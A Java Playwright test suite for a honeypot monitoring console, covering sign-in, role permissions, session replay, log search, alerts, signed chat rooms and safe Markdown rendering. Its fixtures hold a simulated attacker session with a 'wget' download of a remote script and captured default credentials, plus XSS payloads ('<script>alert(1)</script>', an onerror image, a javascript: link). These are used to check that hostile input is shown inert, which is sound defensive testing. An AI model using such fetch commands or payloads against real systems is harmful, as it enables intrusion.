package io.rustbucket.console;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import io.rustbucket.core.auth.Role;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Every console page in a real Chromium, signed in as each role: the page loads, its main action works end to
 * end against the real systems, nothing is logged to the browser console, and a screenshot is saved under
 * {@code target/screenshots/}.
 */
class ConsolePagesTest {
    static ConsoleFixture f;
    static Browser browser;

    @BeforeAll
    static void start() throws Exception {
        browser = Browser.start();
        f = new ConsoleFixture();
        Instant t = Instant.now().minus(2, ChronoUnit.HOURS).truncatedTo(ChronoUnit.SECONDS);
        List<String> events = new ArrayList<>();
        events.addAll(ConsoleFixture.session(
                "trap-1",
                "S-benign",
                "203.0.113.5",
                t,
                List.<String[]>of(
                        new String[] {"uname -a", "Linux web-01 5.15.0-91-generic x86_64 GNU/Linux", "emulator"},
                        new String[] {"cat /proc/cpuinfo | grep name", "model name : Intel(R) Xeon(R)", "cache"},
                        new String[] {
                            "wget http://203.0.113.77/x.sh", "Saving to: 'x.sh'", "emulator", "http://203.0.113.77/x.sh"
                        },
                        new String[] {"tell me a story about this box", "It is a quiet web server.", "llm"})));
        events.addAll(ConsoleFixture.session(
                "trap-1", "S-hostile", "198.51.100.66", t.plusSeconds(600), List.<String[]>of(new String[] {
                    ConsoleFixture.HOSTILE, ConsoleFixture.HOSTILE, "fallback"
                })));
        f.pushAndParse("trap-1", events);
    }

    @AfterAll
    static void stop() {
        if (browser != null) {
            browser.close();
        }
        if (f != null) {
            f.close();
        }
    }

    @AfterEach
    void clean() {
        try {
            browser.assertClean();
        } finally {
            browser.errors().clear();
        }
    }

    Page signedIn(Role role) {
        Page page = browser.newPage();
        Browser.signIn(page, f.base, ConsoleFixture.user(role), ConsoleFixture.PASSWORD);
        assertThat(page).not().hasURL(java.util.regex.Pattern.compile(".*/login.*"));
        return page;
    }

    @Test
    void signInShowsFirstRunNoticeForcesPasswordChangeAndSignsOut() throws Exception {
        String initial = "initial-pass-123";
        f.core.accounts().create("fresh", null, null, initial, Set.of(Role.VIEWER), true);
        Page page = browser.newPage();
        page.navigate(f.base + "/sessions?protocol=ssh");
        assertThat(page).hasURL(java.util.regex.Pattern.compile(".*/login\\?next=.*"));
        page.locator("input[name=account]").fill("fresh");
        page.locator("input[name=password]").fill("wrong-password");
        page.locator("button[type=submit]").click();
        assertThat(page.getByRole(AriaRole.ALERT)).containsText("invalid username or password");
        Browser.screenshot(page, "login-error");

        page.locator("input[name=password]").fill(initial);
        page.locator("button[type=submit]").click();
        assertThat(page).hasURL(f.base + "/account/password");
        page.navigate(f.base + "/sensors"); // every page sends a forced change back here
        assertThat(page).hasURL(f.base + "/account/password");
        Browser.screenshot(page, "password-change");
        page.locator("input[name=current_password]").fill(initial);
        page.locator("input[name=new_password]").fill("a-new-password-456");
        page.locator("button[type=submit]").click();
        assertThat(page).hasURL(f.base + "/");
        assertThat(page.locator("h1")).hasText("Overview");

        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Sign out"))
                .click();
        assertThat(page).hasURL(java.util.regex.Pattern.compile(".*/login$"));
        page.navigate(f.base + "/");
        assertThat(page).hasURL(java.util.regex.Pattern.compile(".*/login.*"));
    }

    @Test
    void overviewChartsTopListsAndLiveFeedForEachRole() {
        for (Role role : Role.values()) {
            Page page = signedIn(role);
            page.navigate(f.base + "/?range=24h");
            assertThat(page.locator("#attacks-chart canvas")).hasCount(1);
            assertThat(page.locator("#stat-connections")).hasText("2");
            assertThat(page.locator("main")).containsText("203.0.113.5");
            assertThat(page.locator("main")).containsText("root:admin123");
            assertThat(page.locator("main")).containsText("http://203.0.113.77/x.sh");
            assertThat(page.locator("#feed-state")).hasText("live");
            f.ingest(ConsoleFixture.event(
                            "trap-1",
                            "S-live-" + role.id(),
                            "192.0.2.44",
                            Instant.now(),
                            "connection.open",
                            java.util.Map.of())
                    .replace("\"log.level\"", "\"service.name\":\"sensor\",\"log.level\""));
            assertThat(page.locator("#live-feed li").first()).containsText("192.0.2.44");
            Browser.screenshot(page, "overview-" + role.id());
            page.context().close();
        }
    }

    @Test
    void adminCreatesAndRevokesARegistrationKeyAndChangesASensorStatus() {
        Page page = signedIn(Role.ADMIN);
        page.navigate(f.base + "/sensors");
        assertThat(page.locator("#fleet")).containsText("trap-1");
        page.locator("#create-key input[name=name]").fill("fra-2");
        page.locator("#create-key button[type=submit]").click();
        assertThat(page.locator("#new-key")).hasText(java.util.regex.Pattern.compile("^rbk_\\S{20,}$"));
        assertThat(page.locator("#keys")).containsText("fra-2");
        Browser.screenshot(page, "sensors-admin");
        page.locator("#keys tr", new Page.LocatorOptions().setHasText("fra-2"))
                .getByRole(AriaRole.BUTTON, new com.microsoft.playwright.Locator.GetByRoleOptions().setName("Revoke"))
                .click();
        assertThat(page.locator("#keys tr", new Page.LocatorOptions().setHasText("fra-2")))
                .containsText("revoked");

        page.locator("#fleet a", new Page.LocatorOptions().setHasText("trap-1")).click();
        assertThat(page.locator("#sensor-status")).hasText("Active");
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Make Inactive"))
                .click();
        assertThat(page.locator("#sensor-status")).hasText("Inactive");
        assertThat(page.locator("#status-history")).containsText("admin-user");
        Browser.screenshot(page, "sensor-detail");
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Make Active"))
                .click();
        assertThat(page.locator("#sensor-status")).hasText("Active");
    }

    @Test
    void viewersSeeTheFleetButNoKeysOrStatusButtons() {
        Page page = signedIn(Role.VIEWER);
        page.navigate(f.base + "/sensors");
        assertThat(page.locator("#fleet")).containsText("trap-1");
        assertThat(page.locator("#create-key")).hasCount(0);
        Browser.screenshot(page, "sensors-viewer");
        var keys = page.request().get(f.base + "/sensors/keys");
        assertThat(keys.status()).isEqualTo(403);
        page.navigate(f.base + "/sensors/" + f.sensorId);
        assertThat(page.locator("button", new Page.LocatorOptions().setHasText("Make")))
                .hasCount(0);
        // The API refuses too, whatever the page shows.
        var change = page.request()
                .put(
                        f.base + "/api/sensors/" + f.sensorId + "/status",
                        com.microsoft.playwright.options.RequestOptions.create()
                                .setHeader("Content-Type", "application/json")
                                .setData("{\"status\":\"Inactive\"}"));
        assertThat(change.status()).isIn(403);
    }

    @Test
    void sessionsSearchAndReplayShowHostileTextInertAndVisible() {
        for (Role role : List.of(Role.VIEWER, Role.ANALYST, Role.ADMIN)) {
            Page page = signedIn(role);
            page.navigate(f.base + "/sessions");
            assertThat(page.locator("#session-list tbody tr")).hasCount(2);
            page.locator("input[name=source_ip]").fill("203.0.113.5");
            page.locator("form.filters button[type=submit]").click();
            assertThat(page.locator("#session-list tbody tr")).hasCount(1);
            assertThat(page).hasURL(java.util.regex.Pattern.compile(".*source_ip=203\\.0\\.113\\.5.*"));
            assertThat(page.locator("#session-list")).containsText("4"); // commands
            page.locator("#session-list a").first().click();
            assertThat(page.locator("#transcript")).containsText("uname -a");
            assertThat(page.locator("#transcript .src-llm")).hasCount(1);
            assertThat(page.locator("#transcript .src-cache")).hasCount(1);
            assertThat(page.locator("#credentials")).containsText("root / admin123");
            assertThat(page.locator("#urls")).containsText("http://203.0.113.77/x.sh");
            Browser.screenshot(page, "replay-" + role.id());
            page.context().close();
        }
        Page page = signedIn(Role.VIEWER);
        page.navigate(f.base + "/sessions?text="
                + java.net.URLEncoder.encode("<script>", java.nio.charset.StandardCharsets.UTF_8));
        assertThat(page.locator("#session-list tbody tr")).hasCount(1);
        page.locator("#session-list a").first().click();
        assertThat(page.locator("#transcript pre.input"))
                .containsText("<script>alert(1)</script>\"><img src=x onerror=alert(2)>");
        assertThat(page.locator("#transcript pre.input")).containsText("^[[31mred<U+202E>gnp.exe");
        assertThat(page.locator("#transcript .src-fallback")).hasCount(1);
        assertThat(page.locator("main img")).hasCount(0);
        assertThat(page.locator("main script")).hasCount(0);
        Browser.screenshot(page, "replay-hostile");
    }

    @Test
    void logsSearchPagesAndTailsLive() {
        for (int i = 0; i < 60; i++) {
            f.ingest(ConsoleFixture.event(
                            "trap-1",
                            "S-log",
                            "192.0.2." + (i % 200),
                            Instant.now().minusSeconds(i),
                            "command",
                            java.util.Map.of("honeypot.input", "wget http://example.test/" + i))
                    .replace("\"log.level\"", "\"service.name\":\"sensor\",\"log.level\""));
        }
        Page page = signedIn(Role.VIEWER);
        page.navigate(f.base + "/logs");
        page.locator("input[name=q]").fill("honeypot.input:wget");
        page.locator("input[name=session_id]").fill("S-log");
        page.locator("#log-filters button[type=submit]").click();
        assertThat(page.locator("#total")).containsText("60 events match");
        assertThat(page.locator("#log-results tbody tr")).hasCount(50);
        page.locator("#next-page").click();
        assertThat(page.locator("#log-results tbody tr")).hasCount(10);
        Browser.screenshot(page, "logs-search");

        page.navigate(f.base + "/logs");
        page.locator("input[name=source_ip]").fill("192.0.2.250");
        page.locator("#tail-toggle").click();
        assertThat(page.locator("#tail-state")).hasText("live");
        f.ingest(ConsoleFixture.event("trap-1", "S-tail", "192.0.2.251", Instant.now(), "command", java.util.Map.of())
                .replace("\"log.level\"", "\"service.name\":\"sensor\",\"log.level\""));
        f.ingest(ConsoleFixture.event("trap-1", "S-tail", "192.0.2.250", Instant.now(), "command", java.util.Map.of())
                .replace("\"log.level\"", "\"service.name\":\"sensor\",\"log.level\""));
        assertThat(page.locator("#tail-feed li")).hasCount(1);
        assertThat(page.locator("#tail-feed li").first()).containsText("192.0.2.250");
        Browser.screenshot(page, "logs-tail");
    }

    @Test
    void adminRunsTheAnalystAndEveryoneReadsTheReport() {
        Page viewer = signedIn(Role.VIEWER);
        viewer.navigate(f.base + "/analyses");
        assertThat(viewer.locator("#run-analysis")).hasCount(0);
        viewer.context().close();

        Page page = signedIn(Role.ADMIN);
        page.navigate(f.base + "/analyses");
        page.locator("#run-analysis").click();
        assertThat(page.locator("article.analysis").first()).containsText("trap-1");
        page.locator("article.analysis details summary").first().click();
        assertThat(page.locator("article.analysis details pre").first()).containsText("203.0.113.5");
        Browser.screenshot(page, "analyses");
    }

    @Test
    void analystAcknowledgesAndResolvesAnAlertViewerOnlyReads() {
        f.raiseAlert("Disk almost full on /data");
        Page viewer = signedIn(Role.VIEWER);
        viewer.navigate(f.base + "/alerts");
        assertThat(viewer.locator("#alert-list")).containsText("Disk almost full on /data");
        assertThat(viewer.locator("#alert-list button")).hasCount(0);
        assertThat(viewer.locator("#notifier-list tr", new Page.LocatorOptions().setHasText("e-mail")))
                .containsText("off");
        Browser.screenshot(viewer, "alerts-viewer");
        viewer.context().close();

        Page page = signedIn(Role.ANALYST);
        page.navigate(f.base + "/alerts");
        var row = page.locator("#alert-list tr", new Page.LocatorOptions().setHasText("Disk almost full"));
        row.getByRole(AriaRole.BUTTON, new com.microsoft.playwright.Locator.GetByRoleOptions().setName("Acknowledge"))
                .click();
        assertThat(row).containsText("ack by analyst-user");
        Browser.screenshot(page, "alerts-analyst");
        row.getByRole(AriaRole.BUTTON, new com.microsoft.playwright.Locator.GetByRoleOptions().setName("Resolve"))
                .click();
        assertThat(page.locator("#alerts")).not().containsText("Disk almost full");
        page.locator("select[name=status]").selectOption("resolved");
        page.locator("form.filters button[type=submit]").click();
        assertThat(page.locator("#alert-list")).containsText("resolved by analyst-user");
    }

    @Test
    void analystsWriteSignedMessagesViewersSeeThemLiveWithVerificationBadges() {
        Page analyst = signedIn(Role.ANALYST);
        analyst.navigate(f.base + "/rooms");
        assertThat(analyst.locator("#no-rooms")).isVisible();
        analyst.locator("#create-room input[name=room_id]").fill("ops room");
        analyst.locator("#create-room input[name=name]").fill("Operations");
        analyst.locator("#create-room button[type=submit]").click();
        assertThat(analyst.locator("h1")).containsText("Operations");

        Page viewer = signedIn(Role.VIEWER);
        viewer.navigate(f.base + "/rooms");
        assertThat(viewer.locator("#room-list")).containsText("Operations");
        assertThat(viewer.locator("#create-room")).hasCount(0);
        viewer.locator("#room-list a").first().click();
        assertThat(viewer.locator("#composer")).hasCount(0);
        assertThat(viewer.locator("#room-live")).hasText("live");

        analyst.locator("#composer textarea").fill("scanner from 203.0.113.5 again <b>not bold</b>");
        analyst.locator("#composer button[type=submit]").click();
        var first = analyst.locator(".chat li.msg").first();
        assertThat(first).containsText("<b>not bold</b>");
        assertThat(first.locator(".badge.verified")).hasCount(1);
        // The viewer's page learns of the new file over SSE and reloads its timeline.
        assertThat(viewer.locator(".chat li.msg").first())
                .containsText(
                        "scanner from 203.0.113.5",
                        new com.microsoft.playwright.assertions.LocatorAssertions.ContainsTextOptions()
                                .setTimeout(15_000));

        first.locator("button[data-reply]").click();
        analyst.locator("#composer textarea").fill("blocked it");
        analyst.locator("#composer button[type=submit]").click();
        var reply = analyst.locator(".chat li.msg", new Page.LocatorOptions().setHasText("blocked it"));
        assertThat(reply.locator(".reply")).containsText("scanner from 203.0.113.5");
        first.locator("button", new com.microsoft.playwright.Locator.LocatorOptions().setHasText("👍"))
                .click();
        assertThat(first.locator(".reactions")).containsText("👍 1");
        reply.locator("details.edit summary").click();
        reply.locator("details.edit textarea").fill("blocked it at the edge");
        reply.locator("details.edit button[type=submit]").click();
        assertThat(analyst.locator(".chat li.msg", new Page.LocatorOptions().setHasText("blocked it at the edge")))
                .containsText("(edited)");
        analyst.locator(".chat li.msg", new Page.LocatorOptions().setHasText("blocked it at the edge"))
                .locator("button", new com.microsoft.playwright.Locator.LocatorOptions().setHasText("Delete"))
                .click();
        assertThat(analyst.locator(".chat")).containsText("message deleted");
        assertThat(analyst.locator("#integrity")).containsText("clean");

        // Someone with the bucket's credentials but not the analyst's key forges a message in their name, and a
        // stranger whose key the room does not know writes too.
        var forger = io.rustbucket.bucketchat.client.BucketChatClient.open(
                f.core.store(),
                "ops room",
                new io.rustbucket.bucketchat.crypto.EventSigner(
                        "analyst-user@rustbucket", io.rustbucket.bucketchat.crypto.Ed25519.generate()),
                java.time.Clock.systemUTC(),
                io.rustbucket.bucketchat.client.BucketChatClient.Options.defaults());
        forger.message("please wire the money", null);
        forger.flush();
        var stranger = io.rustbucket.bucketchat.client.BucketChatClient.open(
                f.core.store(),
                "ops room",
                new io.rustbucket.bucketchat.crypto.EventSigner(
                        "mallory@elsewhere", io.rustbucket.bucketchat.crypto.Ed25519.generate()),
                java.time.Clock.systemUTC(),
                io.rustbucket.bucketchat.client.BucketChatClient.Options.defaults());
        stranger.message("hello from outside", null);
        stranger.flush();
        var forged = viewer.locator(".chat li.msg", new Page.LocatorOptions().setHasText("please wire the money"));
        assertThat(forged.locator(".badge.invalid"))
                .hasCount(
                        1,
                        new com.microsoft.playwright.assertions.LocatorAssertions.HasCountOptions().setTimeout(15_000));
        assertThat(viewer.locator(".chat li.msg", new Page.LocatorOptions().setHasText("hello from outside"))
                        .locator(".badge.unverified"))
                .hasCount(1);
        viewer.reload();
        assertThat(viewer.locator("#integrity")).containsText("problems");
        assertThat(viewer.locator("#other-senders")).containsText("mallory@elsewhere");
        Browser.screenshot(viewer, "room-viewer");
        Browser.screenshot(analyst, "room-analyst");

        // The viewer's session ends (signed out elsewhere): the room's live stream ends with it.
        assertThat(viewer.locator("#room-live")).hasText("live");
        String token = viewer.context().cookies().stream()
                .filter(c -> c.name.equals(io.rustbucket.core.auth.Authenticator.SESSION_COOKIE))
                .findFirst()
                .orElseThrow()
                .value;
        f.core.sessions()
                .end(f.core.sessions().resolve(token).orElseThrow().info().id());
        assertThat(viewer.locator("#room-live"))
                .hasText(
                        "reconnecting…",
                        new com.microsoft.playwright.assertions.LocatorAssertions.HasTextOptions().setTimeout(10_000));
    }

    @Test
    void adminManagesUsersAndTokensOthersAreRefused() {
        for (Role role : List.of(Role.VIEWER, Role.ANALYST)) {
            Page page = signedIn(role);
            assertThat(page.locator("nav a", new Page.LocatorOptions().setHasText("Settings")))
                    .hasCount(0);
            assertThat(page.request().get(f.base + "/settings").status()).isEqualTo(403);
            page.context().close();
        }
        // Usage is counted per user: two chat replies for a user of this test only, and a call made for no user.
        var spender = f.core.accounts().create("spender", null, null, "spender-pass-1", Set.of(Role.VIEWER), false);
        var ask = io.rustbucket.core.llm.LlmRequest.of(List.of(io.rustbucket.core.llm.LlmMessage.user("hi")));
        f.core.llm().complete("assistant:" + spender.id(), "offline", ask);
        f.core.llm().complete("assistant:" + spender.id(), "offline", ask);
        f.core.llm().complete("sensor", "offline", ask);
        Page page = signedIn(Role.ADMIN);
        page.navigate(f.base + "/settings");
        assertThat(page.locator("#model-list")).containsText("offline");
        var spent = page.locator("#usage-list tr", new Page.LocatorOptions().setHasText("spender"));
        assertThat(spent).containsText("offline");
        assertThat(spent.locator("td").nth(2)).hasText("2");
        assertThat(page.locator("#usage-list tr", new Page.LocatorOptions().setHasText("platform")))
                .hasCount(1);
        assertThat(page.locator("#sensor-settings")).containsText("No sensor runs in this process");
        page.locator("#create-user input[name=username]").fill("newbie");
        page.locator("#create-user select[name=role]").selectOption("analyst");
        page.locator("#create-user input[name=password]").fill("first-pass-123");
        page.locator("#create-user button[type=submit]").click();
        assertThat(page.locator("#user-list tr", new Page.LocatorOptions().setHasText("newbie")))
                .containsText("must change password");

        page.locator("#create-token input[name=name]").fill("shipper on web-01");
        page.locator("#create-token button[type=submit]").click();
        var token = page.locator("#new-token");
        assertThat(token).hasText(java.util.regex.Pattern.compile("^rbt_\\S+$"));
        var ingest = page.request()
                .post(
                        f.base + "/ingest",
                        com.microsoft.playwright.options.RequestOptions.create()
                                .setHeader("Authorization", "Bearer " + token.textContent())
                                .setHeader("Content-Type", "application/json")
                                .setData("{\"message\":\"hello from a shipper\",\"service\":\"web\"}"));
        assertThat(ingest.status()).isEqualTo(200);
        Browser.screenshot(page, "settings");
        page.reload();
        var row = page.locator("#token-list tr", new Page.LocatorOptions().setHasText("shipper on web-01"));
        assertThat(row).containsText("ingest");
        row.getByRole(AriaRole.BUTTON, new com.microsoft.playwright.Locator.GetByRoleOptions().setName("Revoke"))
                .click();
        assertThat(page.locator("#token-list tr", new Page.LocatorOptions().setHasText("shipper on web-01")))
                .containsText("revoked");
    }

    @Test
    void spamLogFeedbackTesterAndGroupSettings() {
        f.alerts
                .spam()
                .check(
                        new io.rustbucket.alerts.spam.SpamMessage(
                                "tg-1001",
                                "42",
                                "promo_bot",
                                "Earn $500 a day from home!!! Passive income, DM me now 💰💰💰💰💰💰 http://bit.ly/xyz",
                                false,
                                false),
                        "m-1");
        Page viewer = signedIn(Role.VIEWER);
        viewer.navigate(f.base + "/spam");
        var row = viewer.locator("#verdict-list tr", new Page.LocatorOptions().setHasText("promo_bot"));
        assertThat(row).containsText("spam");
        assertThat(row.locator("button")).hasCount(0);
        viewer.locator("#spam-test textarea").fill("Thanks, the patch fixed the crash on my box.");
        viewer.locator("#spam-test button[type=submit]").click();
        assertThat(viewer.locator("#check-result #verdict")).containsText("not spam");
        viewer.navigate(f.base + "/spam/groups/tg-1001");
        assertThat(viewer.locator("#group-settings input[name=title]")).isDisabled();
        viewer.context().close();

        Page analyst = signedIn(Role.ANALYST);
        analyst.navigate(f.base + "/spam?group=tg-1001");
        row = analyst.locator("#verdict-list tr", new Page.LocatorOptions().setHasText("promo_bot"));
        row.getByRole(AriaRole.BUTTON, new com.microsoft.playwright.Locator.GetByRoleOptions().setName("Not spam"))
                .click();
        assertThat(analyst.locator("#verdict-list tr", new Page.LocatorOptions().setHasText("promo_bot")))
                .containsText("by analyst-user");
        Browser.screenshot(analyst, "spam-log");
        analyst.context().close();

        Page admin = signedIn(Role.ADMIN);
        admin.navigate(f.base + "/spam/groups/tg-1001");
        admin.locator("input[name=title]").fill("Honeypot fans");
        admin.locator("input[name=threshold]").fill("0.9");
        admin.locator("input[name=dry_run]").check();
        admin.locator("textarea[name=trusted_users]").fill("42\n77");
        admin.locator("#group-settings button[type=submit]").click();
        // Saved through the API, then the page reloads with the stored values.
        org.awaitility.Awaitility.await()
                .until(() -> f.alerts
                                .spam()
                                .groups()
                                .settings("tg-1001")
                                .trustedUsers()
                                .size()
                        == 2);
        admin.waitForLoadState();
        assertThat(admin.locator("input[name=title]")).hasValue("Honeypot fans");
        assertThat(admin.locator("input[name=threshold]")).hasValue("0.9");
        assertThat(admin.locator("input[name=dry_run]")).isChecked();
        assertThat(admin.locator("textarea[name=trusted_users]")).hasValue("42\n77");
        var saved = f.alerts.spam().groups().settings("tg-1001");
        assertThat(saved.trustedUsers()).containsExactlyInAnyOrder("42", "77");
        assertThat(saved.allowedDomains()).contains("github.com"); // untouched fields keep their values
        Browser.screenshot(admin, "spam-group");
    }

    @Test
    void theKeyboardAloneSignsInAndMovesBetweenPages() {
        Page page = browser.newPage();
        page.navigate(f.base + "/login");
        // The account field has the focus; Tab to the password, Enter submits.
        page.keyboard().type(ConsoleFixture.user(Role.VIEWER));
        page.keyboard().press("Tab");
        page.keyboard().type(ConsoleFixture.PASSWORD);
        page.keyboard().press("Enter");
        assertThat(page.locator("h1")).hasText("Overview");
        // First Tab: the skip link; Enter on it puts the focus on the main content.
        page.keyboard().press("Tab");
        assertThat(page.locator(".skip")).isFocused();
        page.keyboard().press("Enter");
        assertThat(page.locator("#main")).isFocused();
        // The navigation is reachable by Tab, and Enter follows a link.
        page.locator("header nav a", new Page.LocatorOptions().setHasText("Sessions"))
                .focus();
        page.keyboard().press("Enter");
        assertThat(page.locator("h1")).hasText("Sessions");
        page.locator("input[name=source_ip]").focus();
        page.keyboard().type("198.51.100.66");
        page.keyboard().press("Enter");
        assertThat(page.locator("#session-list tbody tr")).hasCount(1);
    }

    @Test
    void chatPageCreatesAConversationAndShowsTheStreamedReply() {
        Page page = signedIn(Role.ANALYST);
        page.navigate(f.base + "/chat");
        assertThat(page.locator("#no-conversations")).isVisible();
        page.locator("#new-conversation input[name=title]").fill("Triage <b>tonight</b>");
        page.locator("#new-conversation button[type=submit]").click();
        page.locator("#conversation-list a").first().click();
        assertThat(page.locator("h1")).containsText("Triage <b>tonight</b>");
        assertThat(page.locator("#chat-live")).hasText("live");
        page.locator("#chat-composer textarea").fill("Summarise the <script>alert(1)</script> session");
        page.locator("#chat-composer button[type=submit]").click();
        var reply = page.locator(".cmsg.role-assistant").first();
        assertThat(reply.locator(".body")).not().isEmpty();
        assertThat(reply).not().hasClass(java.util.regex.Pattern.compile(".*streaming.*"));
        assertThat(page.locator(".cmsg.role-user .body").first())
                .hasText("Summarise the <script>alert(1)</script> session");
        assertThat(page.locator("#thread-list button")).hasCount(1);
        // Answers are Markdown rendered into nodes: code, lists and safe links become elements; markup and
        // javascript: links stay text.
        Object rendered = page.evaluate(
                "(md) => { const d = document.createElement('div'); d.append(window.RustbucketMarkdown.render(md));"
                        + " return { html: d.innerHTML, code: d.querySelector('pre code')?.textContent,"
                        + " items: d.querySelectorAll('ul li').length, bold: d.querySelector('strong')?.textContent,"
                        + " links: Array.from(d.querySelectorAll('a'), (a) => a.getAttribute('href')),"
                        + " scripts: d.querySelectorAll('script, img').length, text: d.textContent }; }",
                String.join(
                        "\n",
                        "## Findings",
                        "Port **23** is `telnet`:",
                        "- one <script>alert(1)</script>",
                        "- two <img src=x onerror=alert(2)>",
                        "",
                        "```sh",
                        "nmap -p 23 <target>",
                        "```",
                        "[docs](https://example.test/a?b=1) and [bad](javascript:alert(3))"));
        @SuppressWarnings("unchecked")
        var r = (java.util.Map<String, Object>) rendered;
        org.assertj.core.api.Assertions.assertThat(r.get("code")).isEqualTo("nmap -p 23 <target>");
        org.assertj.core.api.Assertions.assertThat(r.get("items")).isEqualTo(2);
        org.assertj.core.api.Assertions.assertThat(r.get("bold")).isEqualTo("23");
        org.assertj.core.api.Assertions.assertThat((List<Object>) r.get("links"))
                .containsExactly("https://example.test/a?b=1");
        org.assertj.core.api.Assertions.assertThat(r.get("scripts")).isEqualTo(0);
        org.assertj.core.api.Assertions.assertThat((String) r.get("text"))
                .contains("<script>alert(1)</script>", "[bad](javascript:alert(3))");
        assertThat(reply.locator(".body.md p").first()).not().isEmpty();

        // Export: the whole conversation as Markdown.
        var exported = page.request().get(f.base + page.locator("#export-md").getAttribute("href"));
        org.assertj.core.api.Assertions.assertThat(exported.status()).isEqualTo(200);
        org.assertj.core.api.Assertions.assertThat(exported.text())
                .startsWith("# Triage <b>tonight</b>")
                .contains("Summarise the <script>alert(1)</script> session");

        // Search finds the question and opens its thread at it.
        page.locator("#thread-search input[name=q]").fill("SCRIPT>ALERT");
        page.locator("#thread-search input[name=q]").press("Enter");
        var hit = page.locator("#search-results .search-hit");
        assertThat(hit).hasCount(1);
        assertThat(hit).containsText("<script>alert(1)</script>");
        hit.click();
        assertThat(page.locator(".cmsg.found")).containsText("Summarise the");
        Browser.screenshot(page, "chat-search");
        page.locator("#thread-search input[name=q]").fill("no such words");
        page.locator("#thread-search input[name=q]").press("Enter");
        assertThat(page.locator("#search-results")).containsText("No message contains");

        // Delete hides a message's text, Restore brings it back.
        var question = page.locator(".cmsg.role-user").first();
        question.locator("button", new Locator.LocatorOptions().setHasText("Delete"))
                .click();
        assertThat(page.locator(".cmsg.role-user").first()).containsText("(deleted)");
        page.locator(".cmsg.role-user")
                .first()
                .locator("button", new Locator.LocatorOptions().setHasText("Restore"))
                .click();
        assertThat(page.locator(".cmsg.role-user .body").first())
                .hasText("Summarise the <script>alert(1)</script> session");

        // Regenerate: a second answer to the same question, next to the first.
        reply.locator("button", new Locator.LocatorOptions().setHasText("Regenerate"))
                .click();
        assertThat(page.locator(".cmsg.role-assistant")).hasCount(2);
        assertThat(page.locator(".cmsg.role-assistant").nth(1))
                .not()
                .hasClass(java.util.regex.Pattern.compile(".*streaming.*"));
        assertThat(page.locator(".cmsg.role-assistant").nth(1).locator(".body"))
                .not()
                .isEmpty();

        // The owner invites by e-mail: a one-time token is shown.
        page.locator("#invite input[name=email]").fill("dave@example.test");
        page.locator("#invite button[type=submit]").click();
        assertThat(page.locator("#invite-token")).hasText(java.util.regex.Pattern.compile("^inv_\\S+$"));
        Browser.screenshot(page, "chat");

        // A viewer of the conversation reads but has no composer.
        String cid = page.locator("#chat-app").getAttribute("data-conversation");
        var analyst =
                f.core.accounts().findByLogin(ConsoleFixture.user(Role.ANALYST)).orElseThrow();
        var viewerUser =
                f.core.accounts().findByLogin(ConsoleFixture.user(Role.VIEWER)).orElseThrow();
        // Added through the API from the owner's page, whose member list follows membership.changed.
        Object added = page.evaluate(
                "([cid, uid]) => fetch('/api/conversations/' + cid + '/participants', {method: 'POST',"
                        + " headers: {'Content-Type': 'application/json', 'X-CSRF-TOKEN':"
                        + " decodeURIComponent(document.cookie.match(/(?:^|;\\s*)rb_csrf=([^;]+)/)[1])},"
                        + " body: JSON.stringify({user_id: uid, role: 'viewer'})}).then(r => r.status)",
                List.of(cid, viewerUser.id()));
        assertThat(added).isEqualTo(201);
        assertThat(page.locator("#member-list li")).hasCount(2);
        Page viewer = signedIn(Role.VIEWER);
        viewer.navigate(f.base + "/chat/" + cid);
        assertThat(viewer.locator(".cmsg.role-assistant")).hasCount(2);
        assertThat(viewer.locator("#chat-composer")).hasCount(0);
        // Presence: the viewer's page starts with the analyst already there; the analyst's page hears the viewer
        // arrive and, once the viewer's page is left, go offline.
        var dot = "#member-list li[data-user=\"%s\"] .presence";
        assertThat(viewer.locator(dot.formatted(analyst.id()))).hasClass("presence online");
        assertThat(page.locator(dot.formatted(viewerUser.id()))).hasClass("presence online");
        Browser.screenshot(page, "chat-presence");
        viewer.navigate(f.base + "/");
        assertThat(page.locator(dot.formatted(viewerUser.id()))).hasClass("presence offline");

        // The owner renames the conversation, then deletes it: the viewer's open page leaves it too.
        viewer.navigate(f.base + "/chat/" + cid);
        assertThat(viewer.locator("#chat-live")).hasText("live");
        assertThat(viewer.locator("#conversation-settings")).hasCount(0);
        // Each page has finished loading (the open thread is marked in the list last): a request of theirs still
        // in flight when the conversation goes would rightly get a 404.
        assertThat(viewer.locator("#thread-list button.current")).hasCount(1);
        // A reply streamed to a member watching the thread ends complete on their page too (it is not fetched again
        // when the page saw it from its first token).
        page.locator("#chat-composer textarea").fill("And port 2323?");
        page.locator("#chat-composer button[type=submit]").click();
        var third = page.locator(".cmsg.role-assistant").nth(2);
        assertThat(third).not().hasClass(java.util.regex.Pattern.compile(".*streaming.*"));
        assertThat(third.locator(".body")).not().isEmpty();
        String answerId = third.getAttribute("data-id");
        var seen = viewer.locator(".cmsg[data-id=\"" + answerId + "\"]");
        assertThat(seen).not().hasClass(java.util.regex.Pattern.compile(".*streaming.*"));
        assertThat(seen.locator(".body")).hasText(third.locator(".body").textContent());
        assertThat(page.locator("#thread-list button.current")).hasCount(1);
        page.locator("#conversation-settings input[name=title]").fill("Triage, renamed");
        page.locator("#conversation-settings button[type=submit]").click();
        assertThat(page.locator("h1")).containsText("Triage, renamed");
        assertThat(page.locator("#thread-list button.current")).hasCount(1);
        page.locator("#delete-conversation").click();
        assertThat(page).hasURL(java.util.regex.Pattern.compile(".*/chat$"));
        assertThat(viewer).hasURL(java.util.regex.Pattern.compile(".*/chat$"));
        assertThat(page.locator("#conversation-list a", new Page.LocatorOptions().setHasText("Triage, renamed")))
                .hasCount(0);
        assertThat(page.locator("#my-usage")).containsText("3 calls"); // two replies and a regeneration
        assertThat(viewer.request().get(f.base + "/chat/not-a-conversation").status())
                .isEqualTo(404);
    }
}
